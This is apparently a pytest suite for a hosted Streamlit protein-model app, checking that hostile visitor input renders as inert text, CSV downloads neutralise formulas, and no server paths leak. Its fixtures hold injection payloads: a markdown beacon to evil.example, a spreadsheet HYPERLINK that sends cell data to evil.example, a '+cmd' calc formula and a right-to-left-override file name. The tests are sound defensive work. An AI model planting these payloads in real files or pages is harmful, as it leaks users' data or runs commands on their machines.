"""A hostile visitor against a hosted server's pages (issue #26 items 4, 6, 7, 8, 11, 12), under
``streamlit.testing.v1.AppTest`` on the untrained ``random:tiny`` model: what reaches the page,
its links and its downloads. (Items 1-3, 5, 9, 10: tests/integration/test_hosted_attacks.py; the upload
attacks against a real server: tests/browser/test_hosted_server_attacks.py.)"""

from __future__ import annotations

import csv
import io
import logging
import re

import pytest
from markdown_it import MarkdownIt

from test_app import every_text, open_page, paste, settle, start, unescaped
from test_hosted_attacks import hosted  # noqa: F401  (the hosted-server fixture)

# Everything a hostile header, cell or file name may try: markdown links and images (an image is
# fetched by the visitor's browser: a beacon), bare URLs and www. (GitHub-flavoured markdown links
# them), an e-mail address, raw HTML, a Streamlit icon.
EVIL = "![b](https://evil.example/beacon.png)https://evil.example/x_www.evil.example_a@evil.example<img>:material/home:"
MARKDOWN_KINDS = ("markdown", "caption", "warning", "error", "info", "success", "exception")


def _markdown_sources(at) -> list[str]:
    """The markdown source of every element that renders markdown (messages, captions, labels)."""
    sources = [str(getattr(e, "value", "")) for kind in MARKDOWN_KINDS for e in at.get(kind)]
    sources += [str(getattr(w, "label", "")) for kind in ("button", "expander", "selectbox", "radio", "checkbox")
                for w in at.get(kind)]  # fmt: skip
    sources += [str(p.proto.text) for p in at.get("progress")]
    return sources


def _assert_inert(at) -> int:
    """No element's markdown makes a link, an image or raw HTML from the hostile text, and none
    holds a URL, www. or e-mail literal that GitHub-flavoured markdown would link by itself.
    Returns how many elements showed the hostile text (as text)."""
    renderer = MarkdownIt("commonmark", {"html": True})
    shown = 0
    for source in _markdown_sources(at):
        if "evil" not in source:
            continue
        shown += 1
        rendered = renderer.render(source)
        assert "<a " not in rendered and "<img" not in rendered, source
        assert not re.search(r"https?://|www\.|\w@\w|:material/", source), source
    return shown


# --- item 6: one escape path for visitor text --------------------------------------------------------
def test_a_hostile_record_id_is_text_on_every_page_it_reaches(hosted, monkeypatch):
    """records.py put the id unescaped into progress and queue text: a header
    ``![b](https://evil.example/beacon.png)`` made the visitor's browser fetch that URL."""
    from app_pages._ui.server import heavy_jobs

    queue = heavy_jobs.HeavyJobQueue(workers=1, max_waiting=0)
    monkeypatch.setattr(heavy_jobs, "_QUEUE", queue)
    fasta = f">{EVIL} {EVIL}\nMKVLAAGIVGLLLAAQPAMAMKVLAAGIVG\n"
    at = paste(start(), fasta)
    shown = _assert_inert(at)
    for page in ("records", "predictions", "embeddings", "variants"):
        open_page(at, page)
        assert not at.exception
        if page == "records":  # the queue is full: the set's job stops and the page says so (its
            # records are named in the table only, never in progress or queue text)
            from app_pages._ui.server import background

            assert background.wait_all(120)  # the table's entropy job has its slot back
            with queue.slot(visitor=None):
                next(b for b in at.button if b.label == "Compute pseudo-perplexity").click().run()
            assert any("server is busy" in w.value for w in at.warning)
        shown += _assert_inert(at)
    assert shown >= 1  # the id was shown (as text) in a caption or message, and checked there


def test_a_hostile_link_record_and_upload_names_are_text(hosted):
    at = start({"seq": "MKVLAAGIVG", "record": EVIL[:90], "page": "predictions"})
    assert not at.exception
    shown = _assert_inert(at)
    open_page(at, "input")
    at.file_uploader[0].set_value([(f"{EVIL[:60]}.fa", b">x\nMK?V\n", "text/plain")])
    at.run()
    assert not at.exception
    assert shown + _assert_inert(at) >= 2  # the link's record and the file name, as text


# --- item 4: no traceback, no server path; one guard with an error id -----------------------------------
@pytest.mark.parametrize("fasta, page, mutations", [
    (">X/99999999-99999999\nMKVLAAGIVG\n", "predictions", None),
    (">Y/10000000-10000019\nMKVLAAGIVGMKVLAAGIVG\n", "variants", "M1A K2E"),
])
def test_a_record_numbered_beyond_the_links_range_breaks_nothing(hosted, fasta, page, mutations):
    """``>X/99999999-99999999`` showed StreamlitValueAboveMaxError with app.py's path and line
    numbers; ``>Y/10000000-10000075`` on Variants raised from session.publish_link."""
    at = open_page(paste(start(), fasta), page)
    if mutations:
        at.text_area(key="_w_mutation_text").input(mutations).run()
    assert not at.exception and not any("Something went wrong" in e.value for e in at.error)
    assert "/" + "app.py" not in every_text(at) and "Traceback" not in every_text(at)
    assert any("numbering starts at 1" in unescaped(c.value) for c in at.caption)


def test_whatever_fails_outside_a_page_shows_an_error_id_and_logs_the_rest(hosted, monkeypatch, caplog):
    from app_pages._ui.rerun import session

    def broken(*args, **kwargs):
        raise ValueError("/srv/flamino/app_pages/_ui/rerun/session.py line 150")

    monkeypatch.setattr(session, "publish_link", broken)
    caplog.set_level(logging.ERROR, logger="flamino")
    at = start({"seq": "MKVLAAGIVG"})
    assert not at.exception
    (error,) = at.error
    error_id = re.search(r"error id ([0-9a-f]{8})", error.value).group(1)
    assert "/srv/flamino" not in every_text(at) and "ValueError" not in every_text(at)
    assert f"error id {error_id}" in caplog.text and "/srv/flamino" in caplog.text


def test_streamlit_shows_no_error_details_on_a_hosted_server(hosted):
    from streamlit import config

    start()
    assert config.get_option("client.showErrorDetails") == "none"


# --- item 7: CSV downloads never hand a spreadsheet a formula ----------------------------------------------
@pytest.mark.parametrize("cell, safe", [
    ('=HYPERLINK("https://evil.example/?"&A1,"x")', '\'=HYPERLINK("https://evil.example/?"&A1,"x")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\n=1"), ("-1.5", "-1.5"), ("+2e-3", "+2e-3"), ("E6V", "E6V"), ("", ""),
])
def test_formula_cells_are_neutralised_and_numbers_kept(cell, safe):
    """OWASP's CSV injection list: a ' before = + - @ tab CR, numbers left as they are. A CR
    becomes a line feed, which CSV writers quote (a bare CR is a row break to a spreadsheet, which
    would start a new row with the formula)."""
    import pandas as pd

    from app_pages._ui.frame.downloads import formula_safe, formula_safe_csv, formula_safe_frame

    assert formula_safe(cell) == safe
    frame = formula_safe_frame(pd.DataFrame({"mutant": [cell], "score": [-1.5]}))
    assert frame["mutant"][0] == safe and frame["score"][0] == -1.5
    written = formula_safe_frame(pd.DataFrame({"a": [cell], cell or "b": ["x"]})).to_csv(index=False)
    read = pd.read_csv(io.StringIO(written), dtype=str, keep_default_na=False)
    assert read.iloc[0, 0] == safe and list(read.columns) == ["a", safe or "b"] and len(read) == 1
    text = io.StringIO()
    csv.writer(text, lineterminator="\n").writerows([["a", cell or "b"], [cell, "x"]])
    assert list(csv.reader(io.StringIO(formula_safe_csv(text.getvalue()), newline="")))[1][0] == (
        safe if "\r" not in cell else "'=1")  # a bare CR already broke the row: its formula is refused too


def test_every_csv_download_of_the_app_goes_through_the_formula_guard():
    """Structural: the pages build CSVs only with downloads.csv_button or a text/csv download,
    both guarded (a page calling st.download_button itself would bypass it)."""
    from test_app import ROOT

    for path in sorted((ROOT / "app_pages").rglob("*.py")):  # the pages and every _ui folder
        source = path.read_text()
        if path.name != "downloads.py":
            assert "st.download_button" not in source, path
            assert ".to_csv(" not in source, path


# --- item 8: the operator's checkpoint is never named by its path -------------------------------------------
def test_the_operators_checkpoint_path_is_in_no_page_text_or_figure(hosted, monkeypatch, tmp_path):
    """The DMS metrics JSON said ``"model": "/srv/.../esm2-lab-secret"`` and the scatter's title
    the same (both from one metrics dict); the ProtSpace HDF5 the folder's name."""
    from flamino_core.records import protspace
    from flamino_core.weights.loading import load_weights, save_checkpoint
    from test_app import figures
    from test_hosted_attacks import _dms_table

    weights = load_weights("random:tiny")
    secret = save_checkpoint(tmp_path / "srv" / "esm2-lab-secret", weights.config, weights.params, "test")
    monkeypatch.setenv("FLAMINO_MODEL", str(secret))
    monkeypatch.setenv("FLAMINO_MODEL_NAME", "lab-model")
    at = start({"page": "variants", "vinput": "dms", "vstrategy": "wt-marginals"})
    at.file_uploader(key="_dms_upload").set_value([("assay.csv", _dms_table(60, rows=12), "text/csv")]).run()
    # A checkpoint new to this server compiles first, so the page no longer waits for that chunk
    # (#50 row 1): let the scoring job finish, as a browser's rerun would, then read the figures.
    at = settle(at)
    assert not at.exception and figures(at)
    shown = every_text(at) + " ".join(str(f) for f in figures(at))
    assert "lab-model" in shown  # the scatter's title names the model by its public name...
    assert "esm2-lab-secret" not in shown and str(tmp_path) not in shown  # ...never by its path
    from app_pages._ui.server.policy import visitor_model_name

    assert protspace.model_label(visitor_model_name(str(secret))) == "lab-model"  # the HDF5's model_name


def test_messages_lose_absolute_paths_on_a_hosted_server(hosted):
    from app_pages._ui.server.policy import without_paths

    assert without_paths("Cache entry /root/.cache/flamino/models/x/ is damaged (OSError); rebuilding") == \
        "Cache entry …/x is damaged (OSError); rebuilding"
    assert without_paths("fused kernel not built: /opt/app/flamino_core/_attention_cpu.so: bad") == \
        "fused kernel not built: …/_attention_cpu.so: bad"
    assert without_paths("SECY_CHLTR/73-433 and a/b") == "SECY_CHLTR/73-433 and a/b"  # not paths


# --- item 11: one visitor learns nothing of another's work ---------------------------------------------------
def test_a_scan_kept_from_another_session_is_not_told(hosted, monkeypatch):
    """"64 of 700 positions done and kept" told a visitor someone else had analysed the sequence."""
    from app_pages._ui.server import jobs_panel

    sequence = "MKVLAAGIVG" * 30
    monkeypatch.setattr(jobs_panel, "QUICK_SECONDS", 0.0)  # ask before every scan
    first = open_page(paste(start(), f">a\n{sequence}\n"), "predictions")
    first.radio(key="_w_scan").set_value("masked-marginals").run()  # measures the rate on its first chunk
    from app_pages._ui.server import background

    assert background.wait_all(120)
    second = open_page(paste(start(), f">b\n{sequence}\n"), "predictions")
    second.radio(key="_w_scan").set_value("masked-marginals").run()
    text = unescaped(every_text(second))
    assert "done and kept" not in text and f"needs {len(sequence):,} masked passes" in text


# --- item 12 -------------------------------------------------------------------------------------------
def test_right_to_left_override_in_an_id_is_replaced_and_said(hosted):
    at = paste(start(), ">invoice\u202egpj.exe\nMKVLAAGIVG\n")
    assert not at.exception
    assert "\u202e" not in every_text(at)
    assert any("text-direction characters" in unescaped(w.value) for w in at.warning)


def test_the_metadata_table_upload_is_held_to_the_upload_limit_and_its_columns(hosted, monkeypatch):
    monkeypatch.setenv("FLAMINO_MAX_UPLOAD_BYTES", "50000")
    from app_pages._ui.server import background

    at = open_page(paste(start(), ">a\nMKVLAAGIVG\n>b\nMKVLAAGIVA\n"), "embeddings")
    assert background.wait_all(120)  # the set's means are a background job: the map (and its uploader) then
    at.run()
    uploader = at.file_uploader(key="_record_table_upload")
    uploader.set_value(("big.csv", b"id,x\n" + b"a,1\n" * 20_000, "text/csv")).run()
    assert any("this server accepts up to 49 KiB" in unescaped(e.value) for e in at.error)  # 50,000 B / 1,024
    at.file_uploader(key="_record_table_upload").set_value(("wide.csv", ("id," + ",".join(f"c{i}" for i in range(300)) + "\na" + ",1" * 300 + "\n")
                                                           .encode(), "text/csv")).run()
    assert any("301 columns; this server reads tables of up to 200" in unescaped(e.value) for e in at.error)
    # A data row wider than the header (issue 51: 60 kB of commas held the page 27 s); CR-only line
    # breaks are rows, not one wide header.
    at.file_uploader(key="_record_table_upload").set_value(("commas.csv", b"id,x\na" + b"," * 40_000 + b"\n",
                                                           "text/csv")).run()
    assert any("row 1 of commas.csv has 40,001 fields; this server reads tables of up to 200 columns"
               in unescaped(e.value) for e in at.error), [e.value for e in at.error]
    at.file_uploader(key="_record_table_upload").set_value(("mac.csv", b"id,x\ra,1\rb,2\r", "text/csv")).run()
    assert not at.exception and not at.error, [e.value for e in at.error]


def test_no_page_of_a_hosted_session_names_a_server_path(hosted, monkeypatch, tmp_path):
    """Items 8 and 12 over the whole app: every page's text and figures, with the operator's own
    checkpoint under a folder of its own, name neither that folder, nor the cache root, nor any
    absolute path."""
    from flamino_core.weights.loading import load_weights, save_checkpoint
    from test_app import example, figures

    weights = load_weights("random:tiny")
    secret = save_checkpoint(tmp_path / "srv" / "esm2-lab-secret", weights.config, weights.params, "test")
    monkeypatch.setenv("FLAMINO_MODEL", str(secret))
    monkeypatch.setenv("FLAMINO_CACHE", str(tmp_path / "cache-root"))
    at = example(start(), "Haemoglobin β (human)")
    for page in ("input", "records", "predictions", "embeddings", "attention", "variants", "predict", "structure"):
        open_page(at, page)
        assert not at.exception, page
        shown = every_text(at) + " ".join(str(_without_arrays(f)) for f in figures(at))
        assert str(tmp_path) not in shown and "esm2-lab-secret" not in shown, page
        assert not re.search(r"(?<![\w.])/(?:[\w.+-]+/){2,}", html_text(shown)), page


def _without_arrays(value):
    """A figure's JSON without its base64 arrays (whose text holds '/' by chance)."""
    if isinstance(value, dict):
        return {k: _without_arrays(v) for k, v in value.items() if k != "bdata"}
    if isinstance(value, list):
        return [_without_arrays(v) for v in value]
    return value


def html_text(text: str) -> str:
    """Text with markdown escapes and character references undone (what the visitor reads)."""
    import html

    return html.unescape(text.replace("\\", ""))
